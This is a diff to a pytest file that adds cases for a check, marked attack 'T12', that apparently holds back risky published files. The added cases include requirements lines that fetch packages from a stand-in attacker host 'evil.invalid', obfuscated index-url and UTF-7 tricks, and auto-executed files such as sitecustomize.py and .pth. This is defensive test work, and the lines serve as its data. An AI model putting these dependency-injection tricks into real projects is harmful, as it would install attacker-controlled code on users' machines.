@@ -217,6 +217,7 @@ async def test_new_install_scripts_and_git_drivers_are_held_and_ordinary_edits_a
 TAKEN = {"name": "x", "config": {"allow-plugins": False}, "scripts": {}}
 
 
+@pytest.mark.attack("T12", "A file that tools obey, or a requirement that takes a package from elsewhere, is published")
 @pytest.mark.parametrize(
     ("path", "harmless", "program"),
     [
@@ -237,6 +238,20 @@ TAKEN = {"name": "x", "config": {"allow-plugins": False}, "scripts": {}}
         ("lib/setup.py", "", "import os"),
         ("vendor/left-1.0.0.tgz", "", "x"),
         ("libs/X.JAR", "", "x"),
+        (
+            "requirements.txt",
+            "a==1.0 \\\n  --hash=sha256:ab\n# x\n-r dev.txt\nb[c]>=2,<3; python_version < '3.12'\n",
+            "-e ./vendor\n",
+        ),
+        ("requirements-dev.txt", "a\n", "a\n--extra-index-url https://evil.invalid\n"),
+        ("dev_requirements.in", "a~=1.2\n", "a @ https://evil.invalid/a.tar.gz\n"),
+        ("constraints.txt", "a\n", "git+https://evil.invalid/a\n"),
+        ("requirements.txt", "a\n", "--ind\\\nex-url=https://evil.invalid\n"),
+        ("requirements.txt", "a\n", "./vendor/a\n"),
+        ("requirements.txt", "a\n", "# coding: utf-7\n+AC0-e .\n"),
+        ("src/sitecustomize.py", "", "import os"),
+        ("src/x.pth", "", "import os"),
+        (".pnp.cjs", "", "x"),
         ("package.json5", "", "{scripts: {install: 'sh x'}}"),
     ],
 )
